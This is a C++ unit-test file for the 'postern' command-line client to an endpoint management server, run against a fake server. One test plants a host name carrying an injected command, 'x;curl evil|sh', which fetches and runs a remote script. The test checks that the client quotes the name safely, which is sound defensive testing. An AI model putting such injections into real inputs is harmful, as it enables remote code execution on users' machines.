// The other commands, against a fake EMS: what they ask, what they show, and how they fail.
#include "cli/commands/commands.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <boost/json.hpp>

#include "cli/config_file.h"
#include "cli/program_lab.h"

namespace postern::cli {
namespace {

namespace json = boost::json;
using testing::HasSubstr;
using testing::Not;

constexpr char kSecond[] =
    R"({"uid":"7F47AAAA62E2CF1430D14814C557BD7B","host_name":"laptop70","online":false,"registered":true,
  "registration":"registered","quarantined":true,"tags":[],"unknown_tags":["Vulnerable-Device"],"ip":null,"os_version":null,
  "vulnerabilities":{"critical":1,"high":2},"last_seen":"2026-11-26T07:00:00Z"})";

std::string page(std::initializer_list<std::string> items, const std::string& next = "null", int total = 2) {
  std::string list;
  for (const std::string& item : items) list += (list.empty() ? "" : ",") + item;
  return R"({"items":[)" + list + R"(],"next_cursor":)" + next + R"(,"total":)" + std::to_string(total) + "}";
}

class Commands : public testing::Test {
 protected:
  ProgramLab lab_;
};

TEST_F(Commands, EndpointsAsATable) {
  lab_.ems.on("GET endpoints", page({laptop7(), kSecond}));
  EXPECT_EQ(lab_.run({"endpoints", "lap", "--tag", "X", "--online", "--sort", "-last_seen", "--limit", "2"}), kDone)
      << lab_.err();
  EXPECT_EQ(lab_.out(),
            "ENDPOINT  UID                    STATE        ADDRESS   SEEN  TAGS\n"
            "laptop7   7F4704E462E2CF1430D14  online       10.0.1.7   2 s  –\n"
            "laptop70  7F47AAAA62E2CF1430D14  quarantined  –          3 h  Vulnerable-Device?\n");
  const auto asked = lab_.ems.asked("GET endpoints");
  ASSERT_EQ(asked.size(), 1u);
  EXPECT_EQ(asked.front().query,
            (std::map<std::string, std::string>{
                {"q", "lap"}, {"tag", "X"}, {"online", "true"}, {"sort", "-last_seen"}, {"limit", "2"}}));
}

TEST_F(Commands, AllIsEveryPage) {
  lab_.ems.on("GET endpoints", page({laptop7()}, "\"C1\""));
  lab_.ems.on("GET endpoints?C1", page({kSecond}));
  EXPECT_EQ(lab_.run({"endpoints", "--json", "--all"}), kDone) << lab_.err();
  EXPECT_EQ(json::parse(lab_.out()).at("items").as_array().size(), 2u);
  EXPECT_TRUE(json::parse(lab_.out()).at("next_cursor").is_null());
  EXPECT_EQ(lab_.run({"endpoints", "--limit", "1"}), kDone);
  EXPECT_EQ(lab_.err(), "1 of 2; --limit N or --all shows more\n");
}

TEST_F(Commands, StatusSaysWhatTheEmsIsWorkingOn) {
  lab_.ems.on("GET auth/session", R"({"user":"admin","role":"admin"})");
  const std::string ems = R"({"serial":"PSTEMS1","version":"1","counts":{"endpoints":10000},"work":[)";
  lab_.ems.on("GET ems", ems + R"({"kind":"match","done":4200,"total":10000,"started_at":"2026-11-26T09:59:57Z"},
    {"kind":"read_feeds","done":0,"total":2,"started_at":null},{"kind":"new","done":1,"total":2}]})");
  EXPECT_EQ(lab_.run({"status"}), kDone) << lab_.err();
  EXPECT_THAT(lab_.out(), HasSubstr("matching inventories: 4200 of 10000, for 3 s\n"));
  EXPECT_THAT(lab_.out(), HasSubstr("reading feeds: 0 of 2\n"));
  EXPECT_THAT(lab_.out(), HasSubstr("new: 1 of 2\n"));
  lab_.ems.on("GET ems", ems + "]}");
  lab_.terminal.said_out.clear();
  EXPECT_EQ(lab_.run({"status"}), kDone) << lab_.err();
  EXPECT_THAT(lab_.out(), Not(HasSubstr("Working")));
}

TEST_F(Commands, NothingFoundIsNoFailure) {
  lab_.ems.on("GET endpoints", page({}));
  EXPECT_EQ(lab_.run({"endpoints", "x"}), kDone);
  EXPECT_EQ(lab_.out(), "");
  EXPECT_EQ(lab_.err(), "no endpoints\n");
}

TEST_F(Commands, AnEndpointByNameUidOrItsBeginning) {
  lab_.ems.on("GET endpoints", page({laptop7(), kSecond}));
  lab_.ems.on("GET endpoints/7F4704E462E2CF1430D14814C557BD7B", laptop7());
  for (const char* name : {"laptop7", "LAPTOP7", "7F4704", "7f4704e462e2cf1430d14814c557bd7b"}) {
    EXPECT_EQ(lab_.run({"endpoint", name}), kDone) << name << lab_.err();
    EXPECT_TRUE(lab_.out().starts_with("laptop7  7F4704E4")) << lab_.out();
  }
}

TEST_F(Commands, FactsShowTimesAndScoresAsSuch) {
  lab_.ems.on("GET endpoints", page({laptop7()}));
  lab_.ems.on("GET endpoints/7F4704E462E2CF1430D14814C557BD7B/facts", page({
      R"({"key":"ems.vuln_max_cvss","known":true,"value":88,"text":"8.8","collected_at":"2026-11-26T09:00:00Z","source":"ems"})",
      R"({"key":"memory.mb","known":true,"value":7831,"collected_at":"2026-11-26T09:00:00Z","source":"/proc/meminfo"})"}));
  EXPECT_EQ(lab_.run({"endpoint", "laptop7", "--facts"}), kDone) << lab_.err();
  EXPECT_THAT(lab_.out(), HasSubstr("8.8"));
  EXPECT_THAT(lab_.out(), HasSubstr("7831"));
  EXPECT_THAT(lab_.out(), Not(HasSubstr("88 ")));
}

TEST_F(Commands, NoFindingsAreSaidToBeNoneOrNotKnown) {
  const std::string path = "GET endpoints/7F4704E462E2CF1430D14814C557BD7B/vulnerabilities";
  const std::string judged = R"(,"vulnerabilities":{"high":0,"scanned_at":"2026-11-26T09:58:00Z"})";
  const auto ask = [&](const std::string& more) {
    lab_.ems.on("GET endpoints", page({laptop7(more)}));
    lab_.terminal.said_out.clear();
    lab_.terminal.said_err.clear();
    return lab_.run({"endpoint", "laptop7", "--vulnerabilities"});
  };
  lab_.ems.on(path, page({}, "null", 0));
  EXPECT_EQ(ask(judged), kDone);
  EXPECT_EQ(lab_.out(), "");
  EXPECT_EQ(lab_.err(), "nothing is open on laptop7: its packages were compared with the feeds 2 minutes ago\n");
  EXPECT_EQ(ask(""), kDone);
  EXPECT_EQ(lab_.err(), "nobody knows yet whether something is open on laptop7\n");
  lab_.ems.refuse(path, 503, "unavailable", "the endpoint has not sent its packages yet");
  EXPECT_EQ(ask(""), kFailed);
  EXPECT_EQ(lab_.err(), "postern: nobody knows what is open on laptop7: the endpoint has not sent its packages yet\n");
  const std::string finding =
      R"({"cve":"CVE-2026-1","severity":"high","source":"a","package":"a","version":"1","fixed":"2"})";
  lab_.ems.on(path, page({finding}, "null", 1));
  EXPECT_EQ(ask(judged), kDone);
  EXPECT_THAT(lab_.out(), HasSubstr("CVE-2026-1"));
  EXPECT_EQ(lab_.err(), "");
  EXPECT_EQ(ask(""), kDone);
  EXPECT_THAT(lab_.out(), HasSubstr("CVE-2026-1"));
  EXPECT_EQ(lab_.err(), "whether these are all nobody knows: rules that ask for vulnerabilities are unknown\n");
}

TEST_F(Commands, AnAmbiguousEndpointIsToldWithThoseItCouldBe) {
  lab_.ems.on("GET endpoints", page({laptop7(), kSecond}));
  EXPECT_EQ(lab_.run({"endpoint", "7F47"}), kFailed);
  EXPECT_EQ(lab_.err(),
            "postern: 2 endpoints fit \"7F47\"; name one by its UID:\n"
            "  7F4704E462E2CF1430D14814C557BD7B  laptop7  online\n"
            "  7F47AAAA62E2CF1430D14814C557BD7B  laptop70  offline\n");
}

TEST_F(Commands, OfTwoRecordsOfAHostTheRegisteredOneIsMeant) {
  std::string old =
      laptop7(R"(,"uid":"00000000000000000000000000000001","registered":false,"registration":"deregistered")");
  lab_.ems.on("GET endpoints", page({old, laptop7()}));
  EXPECT_EQ(lab_.run({"endpoint", "laptop7"}), kDone) << lab_.err();
  EXPECT_TRUE(lab_.out().starts_with("laptop7  7F4704E4")) << lab_.out();
}

TEST_F(Commands, Quarantine) {
  lab_.ems.on("GET endpoints", page({laptop7()}));
  lab_.ems.on("POST endpoints/7F4704E462E2CF1430D14814C557BD7B/quarantine", laptop7());
  EXPECT_EQ(lab_.run({"quarantine", "laptop7", "--reason", "stolen"}), kDone) << lab_.err();
  EXPECT_TRUE(lab_.out().starts_with("laptop7 is in quarantine"));
  const auto asked = lab_.ems.asked("POST endpoints/7F4704E462E2CF1430D14814C557BD7B/quarantine");
  EXPECT_EQ(json::parse(asked.at(0).body), json::parse(R"({"reason":"stolen"})"));
}

TEST_F(Commands, TagsByHandAndAttributes) {
  lab_.ems.on("GET endpoints", page({laptop7()}));
  const std::string of = "endpoints/7F4704E462E2CF1430D14814C557BD7B";
  lab_.ems.on("PUT " + of + "/classifications", R"({"classifications":["A","B"]})");
  EXPECT_EQ(lab_.run({"classify", "laptop7"}), kMisused);
  EXPECT_EQ(lab_.run({"classify", "laptop7", "A", "B"}), kDone) << lab_.err();
  EXPECT_EQ(lab_.out(), "laptop7 has by hand: A, B\n");
  EXPECT_EQ(lab_.run({"classify", "laptop7", "--none"}), kDone);
  const auto given = lab_.ems.asked("PUT " + of + "/classifications");
  ASSERT_EQ(given.size(), 2u);
  EXPECT_EQ(json::parse(given[0].body), json::parse(R"({"tags":["A","B"]})"));
  EXPECT_EQ(json::parse(given[1].body), json::parse(R"({"tags":[]})"));
  lab_.ems.on("PATCH " + of + "/classifications", R"({"classifications":["A"]})");
  EXPECT_EQ(lab_.run({"classify", "laptop7", "--add", "A", "C"}), kDone) << lab_.err();
  EXPECT_EQ(lab_.run({"classify", "laptop7", "--remove", "B"}), kDone) << lab_.err();
  EXPECT_EQ(lab_.out(), "laptop7 has by hand: A\n");
  const auto some = lab_.ems.asked("PATCH " + of + "/classifications");
  ASSERT_EQ(some.size(), 2u);
  EXPECT_EQ(json::parse(some[0].body), json::parse(R"({"add":["A","C"]})"));
  EXPECT_EQ(json::parse(some[1].body), json::parse(R"({"remove":["B"]})"));
  for (const char* other : {"--remove", "--none"}) EXPECT_EQ(lab_.run({"classify", "laptop7", "--add", other}), kMisused);

  lab_.ems.on("PUT " + of + "/attributes/score.edr", R"({"name":"score.edr"})");
  lab_.ems.on("DELETE " + of + "/attributes/score.edr", "", 204);
  lab_.ems.on("GET " + of + "/attributes",
              page({R"({"name":"score.edr","value":85,"set_at":"2026-11-26T09:00:00Z","set_by":"admin",
    "expires_at":"2026-11-27T09:00:00Z","expired":false})"}));
  EXPECT_EQ(lab_.run({"attribute", "laptop7", "score.edr", "85", "--expires", "1d"}), kDone) << lab_.err();
  EXPECT_EQ(lab_.run({"attribute", "laptop7", "score.edr", "85", "--text"}), kDone);
  const auto set = lab_.ems.asked("PUT " + of + "/attributes/score.edr");
  EXPECT_EQ(json::parse(set.at(0).body), json::parse(R"({"value":85,"expires_in":86400})"));
  EXPECT_EQ(json::parse(set.at(1).body), json::parse(R"({"value":"85"})"));
  EXPECT_EQ(lab_.run({"attribute", "laptop7"}), kDone);
  EXPECT_EQ(lab_.out(),
            "ATTRIBUTE  VALUE  SET  BY     HOLDS UNTIL\n"
            "score.edr  85     1 h  admin  2026-11-27 09:00:00\n");
  EXPECT_EQ(lab_.run({"attribute", "laptop7", "score.edr"}), kDone);
  EXPECT_NE(lab_.out().find("score.edr  85"), std::string::npos);
  EXPECT_NE(lab_.run({"attribute", "laptop7", "owner"}), kDone);
  EXPECT_EQ(lab_.out(), "");
  EXPECT_NE(lab_.err().find("the attribute owner of laptop7 is not set; set it with postern attribute laptop7 owner VALUE"),
            std::string::npos)
      << lab_.err();
  EXPECT_EQ(lab_.run({"attribute", "laptop7", "score.edr", "--remove"}), kDone);
  EXPECT_EQ(lab_.run({"attribute", "laptop7", "score.edr", "--remove", "--json"}), kDone);
  EXPECT_EQ(json::parse(lab_.out()), json::parse(R"({"name":"score.edr","removed":true})"));
  EXPECT_EQ(lab_.run({"attribute", "laptop7", "score.edr", "1.5"}), kMisused);
}

// What a machine calls itself is its own say, and the command is there to be copied.
TEST_F(Commands, ACommandToCopyHoldsAHostNameAsOneWord) {
  std::string evil = laptop7();
  const auto at = evil.find("\"laptop7\"");
  ASSERT_NE(at, evil.npos);
  evil.replace(at, 9, "\"x;curl evil|sh\"");
  lab_.ems.on("GET endpoints", page({evil}));
  lab_.ems.on("GET endpoints/7F4704E462E2CF1430D14814C557BD7B", evil);
  lab_.ems.on("GET endpoints/7F4704E462E2CF1430D14814C557BD7B/attributes", page({}));
  EXPECT_NE(lab_.run({"attribute", "7F4704E462E2CF1430D14814C557BD7B", "owner"}), kDone);
  EXPECT_NE(lab_.err().find("postern attribute 'x;curl evil|sh' owner VALUE"), std::string::npos) << lab_.err();
}

TEST_F(Commands, FeedsSayWhatBecomesOfThem) {
  const auto state = [this](const std::string& feed) {
    lab_.ems.on("GET feeds", R"({"items":[{"name":"kev",)" + feed + R"(}],"total":1,"next":null})");
    EXPECT_EQ(lab_.run({"feeds"}), kDone) << lab_.err();
    const std::string out = lab_.out().substr(lab_.out().find("\nkev") + 1);
    const std::string line = out.substr(0, out.find('\n'));
    return line.substr(line.rfind("  ") + 2) + out.substr(line.size());
  };
  EXPECT_EQ(state(R"("state":"idle","in_use":false)"), "nothing read yet\n");
  EXPECT_EQ(state(R"("state":"idle","in_use":true,"left_out":0)"), "in use\n");
  EXPECT_EQ(state(R"("state":"idle","in_use":true,"left_out":2,"left_out_example":"no id")"), "in use\nkev: 2 records left out, such as: no id\n");
  EXPECT_EQ(state(R"("state":"failed","in_use":true,"error":"no route")"), "in use; failed\nkev: no route\n");
  EXPECT_EQ(state(R"("state":"failed","in_use":false,"error":"no route")"), "failed\nkev: no route\n");
  // What went wrong before is not what it is doing now.
  EXPECT_EQ(state(R"("state":"fetching","in_use":false,"fetched_bytes":37,"error":"no route")"), "fetching, 37 B\nkev: before that: no route\n");
  EXPECT_EQ(state(R"("state":"fetching","in_use":true,"fetched_bytes":1250000)"), "in use; fetching, 1.2 MB\n");
  EXPECT_EQ(state(R"("state":"reading","in_use":false)"), "reading\n");
}

TEST_F(Commands, AFeedIsAddedOrChangedLookedAtAndRemoved) {
  const std::string url = "https://example.org/kev.json";
  lab_.ems.on("POST feeds", R"({"name":"kev"})", 201);
  EXPECT_EQ(lab_.run({"feed", "kev", url, "--every", "1d"}), kDone) << lab_.err();
  EXPECT_EQ(lab_.out(), "the feed kev is added, from " + url + "; postern feeds shows what becomes of it\n");
  EXPECT_EQ(json::parse(lab_.ems.asked("POST feeds").at(0).body),
            json::parse(R"({"url":"https://example.org/kev.json","interval_s":86400,"name":"kev"})"));
  lab_.ems.on("GET feeds/kev", R"({"name":"kev"})");
  lab_.ems.on("PATCH feeds/kev", R"({"name":"kev"})");
  EXPECT_EQ(lab_.run({"feed", "kev", "/mnt/kev.json"}), kDone) << lab_.err();
  EXPECT_EQ(lab_.out(), "the feed kev now comes from /mnt/kev.json; postern feeds shows what becomes of it\n");
  EXPECT_EQ(json::parse(lab_.ems.asked("PATCH feeds/kev").at(0).body), json::parse(R"({"path":"/mnt/kev.json"})"));
  lab_.ems.on("POST feeds/kev/refresh", R"({"name":"kev"})", 202);
  EXPECT_EQ(lab_.run({"feed", "kev", "--refresh"}), kDone) << lab_.err();
  lab_.ems.on("DELETE feeds/kev", "", 204);
  EXPECT_EQ(lab_.run({"feed", "kev", "--remove"}), kDone) << lab_.err();
  EXPECT_EQ(lab_.out(), "the feed kev is gone, and what it said\n");
  EXPECT_EQ(lab_.run({"feed", "kev", "--remove", "--json"}), kDone) << lab_.err();
  EXPECT_EQ(json::parse(lab_.out()), json::parse(R"({"name":"kev","removed":true})"));
  for (const auto& wrong : std::vector<std::vector<std::string>>{
           {"feed", "kev"}, {"feed", "kev", url, "--remove"}, {"feed", "kev", "--remove", "--refresh"},
           {"feed", "kev", "--refresh", "--every", "1d"}, {"feed", "kev", url, "--every", "soon"}}) {
    EXPECT_EQ(lab_.run(wrong), kMisused);
  }
  EXPECT_EQ(lab_.ems.asked("POST feeds").size(), 1u);
}

TEST_F(Commands, DeregisteringIsMeant) {
  lab_.ems.on("GET endpoints", page({laptop7()}));
  const std::string path = "POST endpoints/7F4704E462E2CF1430D14814C557BD7B/deregister";
  lab_.ems.on(path, laptop7());
  EXPECT_EQ(lab_.run({"deregister", "laptop7"}), kMisused);
  lab_.terminal.looks().interactive = true;
  lab_.terminal.answers = {"no"};
  EXPECT_EQ(lab_.run({"deregister", "laptop7"}), kFailed);
  EXPECT_TRUE(lab_.ems.asked(path).empty());
  EXPECT_EQ(lab_.run({"deregister", "laptop7", "-y"}), kDone);
  EXPECT_EQ(lab_.ems.asked(path).size(), 1u);
}

TEST_F(Commands, AuthorisingPinsTheKeyThatWasCompared) {
  const std::string digest(64, 'a');
  lab_.ems.on("GET fabric-devices",
              page({R"({"serial":"PGWAAAAAAAAAAAAA","state":"pending","host_name":"gw1","alias":"","address":"10.0.2.1",
    "offered_key":{"sha256":")" +
                    digest + R"(","fingerprint":"AA:AA"}})"}));
  lab_.ems.on("PATCH fabric-devices/PGWAAAAAAAAAAAAA", R"({"state":"authorised"})");
  EXPECT_EQ(lab_.run({"authorise", "gw1"}), kFailed);
  EXPECT_THAT(lab_.err(), HasSubstr("--key SHA256"));
  EXPECT_EQ(lab_.run({"authorise", "gw1", "--key", std::string(64, 'b')}), kFailed);
  EXPECT_TRUE(lab_.ems.asked("PATCH fabric-devices/PGWAAAAAAAAAAAAA").empty());
  lab_.terminal.looks().interactive = true;
  lab_.terminal.answers = {"y"};
  EXPECT_EQ(lab_.run({"authorise", "PGWAAA"}), kDone) << lab_.err();
  EXPECT_THAT(lab_.err(), HasSubstr("its key: AA:AA"));
  EXPECT_EQ(json::parse(lab_.ems.asked("PATCH fabric-devices/PGWAAAAAAAAAAAAA").at(0).body).at("expected_key_sha256"),
            json::value(digest));
}

TEST_F(Commands, ErrorsAreOneLineWithWhatToDo) {
  EXPECT_EQ(lab_.run({"tags"}), kFailed);
  EXPECT_EQ(lab_.err(), "postern: nothing at GET tags\n");
  lab_.ems.on("GET tags", "<html>");
  EXPECT_EQ(lab_.run({"tags"}), kFailed);
  EXPECT_EQ(lab_.err(), "postern: " + lab_.ems.url() + " answered with something else than JSON; is it an EMS?\n");
  EXPECT_EQ(
      lab_.run_alone({"--url", lab_.ems.url(), "--token", "pst_old", "--fingerprint", FakeEms::fingerprint(), "tags"}),
      kFailed);
  EXPECT_EQ(lab_.err(), "postern: " + lab_.ems.url() +
                            " does not accept the token of the command line; make a new one with: postern login " +
                            lab_.ems.url() + "\n");
}

TEST_F(Commands, AnotherCertificateGetsNoToken) {
  const auto other = std::string(64, 'c');
  EXPECT_EQ(lab_.run_alone({"--url", lab_.ems.url(), "--token", "pst_test", "--fingerprint", other, "tags"}), kFailed);
  EXPECT_THAT(lab_.err(),
              HasSubstr("shows another certificate than the one that is trusted (" + FakeEms::fingerprint()));
  EXPECT_EQ(lab_.ems.requests(), 0u);
  EXPECT_EQ(lab_.run_alone({"--url", lab_.ems.url(), "--token", "pst_test", "tags"}), kFailed);
  EXPECT_THAT(lab_.err(), HasSubstr("give --fingerprint " + FakeEms::fingerprint()));
  EXPECT_EQ(lab_.ems.requests(), 0u);
}

TEST_F(Commands, NobodyThere) {
  EXPECT_EQ(lab_.run_alone({"--url", "https://127.0.0.1:1", "--token", "x", "tags"}), kFailed);
  EXPECT_THAT(lab_.err(), HasSubstr("127.0.0.1:1"));
  EXPECT_EQ(std::count(lab_.err().begin(), lab_.err().end(), '\n'), 1);
}

TEST_F(Commands, WhatStandsBehindTwoDashesIsAName) {
  lab_.ems.on("GET endpoints", page({laptop7()}));
  lab_.ems.on("PUT endpoints/7F4704E462E2CF1430D14814C557BD7B/classifications", R"({"classifications":["-rf"]})");
  EXPECT_EQ(lab_.run({"classify", "--", "laptop7", "-rf", "--none"}), kDone) << lab_.err();
  EXPECT_EQ(lab_.ems.asked("PUT endpoints/7F4704E462E2CF1430D14814C557BD7B/classifications").at(0).body, R"({"tags":["-rf","--none"]})");
  for (const auto& understood : {std::vector<std::string>{"export", "--", "-rf"}, {"export"}}) {
    EXPECT_EQ(lab_.run(understood), kFailed);  // this EMS has no more to say
    EXPECT_EQ(lab_.err(), "postern: nothing at GET openapi.json\n");
  }
}

TEST_F(Commands, WhatIsNotUnderstoodIsTwo) {
  for (const std::vector<std::string>& arguments : {std::vector<std::string>{},
                                                    {"frob"},
                                                    {"tags", "--frob"},
                                                    {"why", "a"},
                                                    {"endpoints", "--limit", "0"},
                                                    {"endpoints", "--limit", "x"},
                                                    {"endpoints", "--online", "--offline"},
                                                    {"endpoint", "a", "--facts", "--history"},
                                                    {"devices", "--state", "odd"},
                                                    {"invite", "--expires", "soon"},
                                                    {"endpoint", "a", "b"}}) {
    EXPECT_EQ(lab_.run_alone(arguments), kMisused) << (arguments.empty() ? "" : arguments.front());
    EXPECT_EQ(lab_.out(), "");
    EXPECT_TRUE(lab_.err().starts_with("postern: ")) << lab_.err();
  }
}

TEST_F(Commands, EachHasHelpWithExamples) {
  for (const Command& command : all_commands()) {
    EXPECT_EQ(lab_.run_alone({command.name, "--help"}), kDone);
    EXPECT_THAT(lab_.out(), HasSubstr("Examples:\n  postern ")) << command.name;
    EXPECT_FALSE(command.summary.empty() || command.summary.ends_with('.')) << command.name;
  }
  EXPECT_EQ(lab_.run_alone({"--version"}), kDone);
  EXPECT_TRUE(lab_.out().starts_with("postern 0.")) << lab_.out();
}

TEST_F(Commands, TheGuideHoldsTheReference) {
  const std::string heading = "## Reference\n\n";
  const std::string before = ProgramLab::source("docs/guide/postern.md");
  ASSERT_THAT(before, HasSubstr(heading));
  const std::string whole = before.substr(0, before.find(heading)) + heading + reference_markdown();
  EXPECT_EQ(ProgramLab::source("docs/guide/postern.md", whole), whole) << "POSTERN_UPDATE_GOLDEN=1 writes it";
}

TEST_F(Commands, ChangesGoOnWhereTheyWere) {
  lab_.ems.on("GET ems", R"({"revision":100})");
  lab_.ems.on("GET changes", R"({"items":[{"revision":99,"at":"2026-11-26T09:59:00Z","kind":"endpoint_tags",
    "key":"7F4704E462E2CF1430D14814C557BD7B","change":{"tags":[{"tag":"X","before":"unknown","after":"has"}]}}],
    "next_cursor":null,"total":null,"next_after":100,"revision":100})");
  EXPECT_EQ(lab_.run({"changes", "--limit", "5"}), kDone) << lab_.err();
  EXPECT_EQ(lab_.out(), "11-26 09:59:00     99  endpoint_tags  7F4704E4  X unknown → has\n");
  EXPECT_EQ(lab_.ems.asked("GET changes").at(0).query.at("after"), "95");
}

TEST_F(Commands, ChangesBeginAtAnyRevision) {
  lab_.ems.on("GET changes", R"({"items":[],"next_cursor":null,"total":null,"next_after":5000000,"revision":5000000})");
  for (const std::string after : {"0", "4999999", "9223372036854775807"}) {
    ASSERT_EQ(lab_.run({"changes", "--after", after}), kDone) << lab_.err();
    EXPECT_EQ(lab_.ems.asked("GET changes").back().query.at("after"), after);
  }
}

TEST_F(Commands, WhatExpiresDoesSoAfterASpanOrOnADate) {
  const std::string owner = "endpoints/7F4704E462E2CF1430D14814C557BD7B/attributes/owner";
  lab_.ems.on("GET endpoints", page({laptop7()}));
  lab_.ems.on("PUT " + owner, R"({"name":"owner"})");
  lab_.ems.on("POST invitations", R"({"invitation":"INV","max_uses":1,"expires_at":"2026-11-28T18:00:00Z"})", 201);
  for (const auto& [when, seconds] : {std::pair("12h", 43'200), {"2026-11-28", 136'800}, {"2026-11-28 18:00", 201'600},
                                      {"2026-11-26T10:01:00.001Z", 61}}) {
    EXPECT_EQ(lab_.run({"attribute", "laptop7", "owner", "x", "--expires", when}), kDone) << lab_.err();
    EXPECT_EQ(json::parse(lab_.ems.asked("PUT " + owner).back().body).at("expires_in"), seconds) << when;
    EXPECT_EQ(lab_.run({"invite", "--expires", when}), kDone) << lab_.err();
    EXPECT_EQ(json::parse(lab_.ems.asked("POST invitations").back().body).at("expires_in"), seconds) << when;
  }
  for (const auto& [when, why] :
       {std::pair("soon", "is no moment to come; write 30d, 12h, 2026-12-31, '2026-12-31 18:00' or 2026-12-31T18:00:00Z"),
        {"2026-11-25", "is 25 Nov 2026, 00:00:00 UTC, which is not to come"},
        {"59s", "is less than a minute away; say 1m or more"}}) {
    const std::string error = "postern: --expires: \"" + std::string(when) + "\" " + why + "; see postern ";
    EXPECT_EQ(lab_.run({"attribute", "laptop7", "owner", "x", "--expires", when}), kMisused);
    EXPECT_EQ(lab_.err(), error + "attribute --help\n");
    EXPECT_EQ(lab_.run({"invite", "--expires", when}), kMisused);
    EXPECT_EQ(lab_.err(), error + "invite --help\n");
    EXPECT_EQ(lab_.run_alone({"login", "ems", "--expires", when}), kMisused);
    EXPECT_EQ(lab_.err(), error + "login --help\n");
  }
  EXPECT_EQ(lab_.run({"invite", "--expires", "365d"}), kDone);
  EXPECT_EQ(lab_.run({"invite", "--expires", "366d"}), kMisused);
  EXPECT_EQ(lab_.err(), "postern: --expires: \"366d\" is 27 Nov 2027, 10:00:00 UTC; 365 days from now are the most; see postern invite --help\n");
  EXPECT_EQ(lab_.run({"attribute", "laptop7", "owner", "x", "--expires", "366d"}), kDone);
  EXPECT_EQ(lab_.run({"attribute", "laptop7", "owner", "x", "--expires", "367d"}), kMisused);
  EXPECT_EQ(lab_.run_alone({"login", "ems", "--expires", "3651d"}), kMisused);
}

}  // namespace
}  // namespace postern::cli
